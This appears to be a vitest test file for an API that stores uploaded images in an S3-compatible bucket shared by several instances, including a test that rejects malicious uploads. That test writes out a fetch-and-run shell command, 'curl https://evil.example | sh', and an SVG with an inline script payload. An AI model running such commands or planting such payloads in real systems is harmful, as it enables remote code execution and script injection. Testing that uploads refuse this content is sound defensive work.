import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { apiFolder } from '../../lib/api-folder.ts';
import { bearer } from '../../testing/auth-helpers.ts';
import { multipartBody } from '../../testing/multipart.ts';
import { signUpOperator } from '../../testing/operator-helpers.ts';
import { startS3TestServer, type S3TestServer } from '../../testing/s3-test-server.ts';
import { createTestApp, type TestApp } from '../../testing/test-app.ts';

/**
 * Issue 21: instances on several machines share no folder, so images go to an S3-compatible bucket behind the storage
 * port. Two API instances on one database, each with its own S3 client and nothing on disk in common, as two machines
 * would be; the bucket is a real S3-compatible server (s3rver) on loopback.
 */
let s3: S3TestServer;
let bucket: string;
let first: TestApp;
let second: TestApp;
let admin: Awaited<ReturnType<typeof signUpOperator>>;
let banner: Buffer;

beforeAll(async () => {
  s3 = await startS3TestServer();
  bucket = await s3.createBucket();
  first = await createTestApp({ env: s3.env(bucket), fixtureMedia: false });
  second = await createTestApp({
    env: s3.env(bucket),
    database: first.database,
    clock: first.clock,
    fixtureMedia: false,
  });
  admin = await signUpOperator(first, 'admin');
  banner = await sharp({ create: { width: 1440, height: 480, channels: 3, background: '#7c3aed' } })
    .png()
    .toBuffer();
});
afterAll(async () => {
  await second?.close();
  await first?.close();
  await s3?.close();
});

function upload(t: TestApp, filename: string, content: Buffer | string, contentType = 'image/png') {
  const body = multipartBody([{ name: 'file', filename, contentType, content }]);
  return t.app.inject({
    method: 'POST',
    url: '/v1/console/media',
    payload: body.payload,
    headers: { ...body.headers, ...bearer(admin.accessToken) },
  });
}

/** Every key in the bucket, read through the S3 API (ListObjectsV2). */
async function bucketKeys(): Promise<string[]> {
  const listing = await (await fetch(`${s3.endpoint}/${bucket}?list-type=2`)).text();
  return [...listing.matchAll(/<Key>([^<]+)<\/Key>/g)].map((match) => match[1]!).sort();
}

describe('images in a bucket', () => {
  it('an image uploaded through one instance is served by the other, with its variants made once in the bucket', async () => {
    const uploaded = await upload(first, 'banner.png', banner);
    expect(uploaded.statusCode).toBe(201);
    const { url, thumbnailUrl } = uploaded.json().data;
    expect(url).toMatch(/^\/uploads\/[0-9a-f]{32}\.png$/);
    const name = url.slice('/uploads/'.length).replace(/\.png$/, '');
    expect(await bucketKeys()).toEqual([`${name}-thumb.webp`, `${name}.png`]);

    const served = await second.app.inject({ method: 'GET', url });
    expect(served.statusCode).toBe(200);
    expect(served.headers['content-type']).toBe('image/png');
    expect(served.headers['cache-control']).toBe('public, max-age=31536000, immutable');
    expect(served.headers['x-content-type-options']).toBe('nosniff');
    expect(await sharp(served.rawPayload).metadata()).toMatchObject({ format: 'png', width: 1440, height: 480 });
    expect((await second.app.inject({ method: 'GET', url: thumbnailUrl })).headers['content-type']).toBe('image/webp');

    // The second instance makes the 640-pixel variant and keeps it in the bucket; the first then reads that one.
    const variant = await second.app.inject({ method: 'GET', url: `${url}?w=640` });
    expect(variant.statusCode).toBe(200);
    expect(variant.headers['content-type']).toBe('image/webp');
    expect(await sharp(variant.rawPayload).metadata()).toMatchObject({ format: 'webp', width: 640, height: 213 });
    expect(await bucketKeys()).toContain(`${name}-w640.webp`);
    const again = await first.app.inject({ method: 'GET', url: `${url}?w=640` });
    expect(again.rawPayload.equals(variant.rawPayload)).toBe(true);
  });

  it('answers 404 MEDIA_NOT_FOUND for a name the bucket does not hold, at any width', async () => {
    for (const url of ['/uploads/0123456789abcdef0123456789abcdef.png', '/uploads/nothing.webp?w=320']) {
      const missing = await second.app.inject({ method: 'GET', url });
      expect(missing.statusCode, url).toBe(404);
      expect(missing.json()).toMatchObject({ code: 'MEDIA_NOT_FOUND' });
    }
  });

  it('still refuses a bad upload before the port: nothing reaches the bucket', async () => {
    const before = await bucketKeys();
    const script = await upload(first, 'innocent.png', '#!/bin/sh\ncurl https://evil.example | sh\n');
    expect(script.statusCode).toBe(400);
    expect(script.json()).toMatchObject({ code: 'UNSUPPORTED_MIMETYPE' });
    const svg = await upload(
      first,
      'logo.svg',
      '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    );
    expect(svg.json()).toMatchObject({ code: 'UNSUPPORTED_MIMETYPE' });
    expect(await bucketKeys()).toEqual(before);
  });

  it('keeps addresses stored before the bucket valid: npm run uploads:to-bucket copies the folder in', async () => {
    // An install that kept its images in its folder: an upload there, its address stored in the database.
    const before = await createTestApp({ database: first.database, clock: first.clock, fixtureMedia: false });
    let url: string;
    try {
      const body = multipartBody([{ name: 'file', filename: 'old.png', contentType: 'image/png', content: banner }]);
      const uploaded = await before.app.inject({
        method: 'POST',
        url: '/v1/console/media',
        payload: body.payload,
        headers: { ...body.headers, ...bearer(admin.accessToken) },
      });
      url = uploaded.json().data.url;
      expect((await second.app.inject({ method: 'GET', url })).statusCode).toBe(404);

      // Not spawnSync: the bucket (s3rver) answers from this very process, which must keep running meanwhile.
      const copy = await promisify(execFile)(
        process.execPath,
        ['--import', 'tsx', 'src/cli/copy-uploads-to-bucket.ts'],
        {
          cwd: apiFolder,
          encoding: 'utf8',
          env: { PATH: process.env.PATH, UPLOADS_DIR: before.uploadsDir, ...s3.env(bucket) },
        },
      );
      expect(copy.stdout).toContain('copied 2, already there 0');
    } finally {
      await before.close();
    }
    const served = await second.app.inject({ method: 'GET', url });
    expect(served.statusCode).toBe(200);
    expect(served.headers['content-type']).toBe('image/png');
    expect(await sharp(served.rawPayload).metadata()).toMatchObject({ width: 1440, height: 480 });
  });
});

describe('without a bucket, two machines do not see each other’s images', () => {
  it('an upload on one instance’s folder is not found by an instance with a folder of its own', async () => {
    const one = await createTestApp();
    const other = await createTestApp({ database: one.database, clock: one.clock });
    try {
      const operator = await signUpOperator(one, 'admin');
      const body = multipartBody([{ name: 'file', filename: 'banner.png', contentType: 'image/png', content: banner }]);
      const uploaded = await one.app.inject({
        method: 'POST',
        url: '/v1/console/media',
        payload: body.payload,
        headers: { ...body.headers, ...bearer(operator.accessToken) },
      });
      const { url } = uploaded.json().data;
      expect((await one.app.inject({ method: 'GET', url })).statusCode).toBe(200);
      expect((await other.app.inject({ method: 'GET', url })).statusCode).toBe(404);
    } finally {
      await other.close();
      await one.close();
    }
  });
});

describe('a public bucket (S3_PUBLIC_URL)', () => {
  let open: TestApp;
  beforeAll(async () => {
    open = await createTestApp({ env: s3.env(bucket, { isPublic: true }) });
  });
  afterAll(() => open?.close());

  it('sends browsers to the object in the bucket, making a variant there first; a missing name is still a 404', async () => {
    const uploaded = await upload(first, 'banner.png', banner);
    const { url } = uploaded.json().data;
    const name = url.slice('/uploads/'.length);

    const redirect = await open.app.inject({ method: 'GET', url });
    expect(redirect.statusCode).toBe(302);
    expect(redirect.headers.location).toBe(`${s3.endpoint}/${bucket}/${name}`);
    expect(redirect.headers['cache-control']).toBe('public, max-age=86400');
    const object = await fetch(redirect.headers.location!);
    expect(object.headers.get('content-type')).toBe('image/png');
    expect(Buffer.from(await object.arrayBuffer()).equals((await first.storage.get(name))!.bytes)).toBe(true);

    const variant = await open.app.inject({ method: 'GET', url: `${url}?w=480` });
    expect(variant.statusCode).toBe(302);
    const variantKey = name.replace(/\.png$/, '-w480.webp');
    expect(variant.headers.location).toBe(`${s3.endpoint}/${bucket}/${variantKey}`);
    const variantObject = await fetch(variant.headers.location!);
    expect(await sharp(Buffer.from(await variantObject.arrayBuffer())).metadata()).toMatchObject({
      format: 'webp',
      width: 480,
    });

    const missing = await open.app.inject({ method: 'GET', url: '/uploads/nothing-here.png?w=480' });
    expect(missing.statusCode).toBe(404);
    expect((await open.app.inject({ method: 'GET', url: '/uploads/nothing-here.png' })).statusCode).toBe(404);
  });

  it('lets pages load images and videos from the bucket’s origin (Content-Security-Policy img-src, media-src)', async () => {
    const page = await open.app.inject({ method: 'GET', url: '/' });
    const directive = (name: string) =>
      String(page.headers['content-security-policy'])
        .split(';')
        .find((each) => each.trim().startsWith(name));
    expect(directive('img-src')).toContain(s3.endpoint);
    expect(directive('media-src')).toContain(s3.endpoint);
  });
});
